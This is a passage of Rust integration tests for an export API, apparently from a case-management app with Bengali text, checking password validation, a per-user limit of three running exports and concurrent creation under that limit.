    assert!(workbook.sheet_names().iter().any(|name| name == "পরিবারের সদস্য"), "{:?}", workbook.sheet_names());

    let (status, error) =
        send(fixture.rahima.post(app.api("/exports")).json(&json!({"format": "csv", "password": "short"})))
            .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let message = error["error"]["message"].as_str().unwrap();
    assert!(message.contains("৮ থেকে ১২৮টি অক্ষর"), "{message}");
}

/// Checks that a user with three exports still running gets 409 `export_limit` for a fourth,
/// while another user may still export.
async fn fourth_running_export_rejected(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let user = app.state.store.user_by_username("cw.rahima").await.unwrap().unwrap();
    let now = time::OffsetDateTime::now_utc();
    for _ in 0..3 {
        let running = running_csv_export(user.id, now);
        app.state
            .store
            .create_export(&running, 3)
            .await
            .expect("storing the export failed")
            .expect("under the limit");
    }

    let (status, error) =
        send(fixture.rahima.post(app.api("/exports")).json(&json!({"format": "csv"}))).await;
    assert_eq!(status, StatusCode::CONFLICT, "{error}");
    assert_eq!(error["error"]["code"], "export_limit");
    let (_, list) = send(fixture.rahima.get(app.api("/exports"))).await;
    assert_eq!(list.as_array().unwrap().len(), 3, "the rejected request made an export");

    let view = export_ready(app, &fixture.karim, json!({"format": "csv"})).await;
    assert_eq!(view["state"], "ready");
}

/// Six exports stored at the same moment for one user, with room for three: exactly three are
/// stored, because each counts the others.
async fn simultaneous_exports_keep_limit(backend: Backend) {
    let fixture = fixture(backend).await;
    let app = &fixture.app;
    let user = app.state.store.user_by_username("cw.rahima").await.unwrap().unwrap();
    let now = time::OffsetDateTime::now_utc();
    let mut tasks = Vec::new();
    for _ in 0..6 {
        let store = app.state.store.clone();
        let export = running_csv_export(user.id, now);
        tasks.push(tokio::spawn(async move { store.create_export(&export, 3).await }));
    }
    let mut stored = 0;
    for task in tasks {
        if task.await.expect("the task ran").expect("the store answered").is_some() {
            stored += 1;
        }
    }
    assert_eq!(stored, 3);
    let listed = app.state.store.list_exports(user.id, now).await.expect("the list");
    assert_eq!(listed.len(), 3);
}
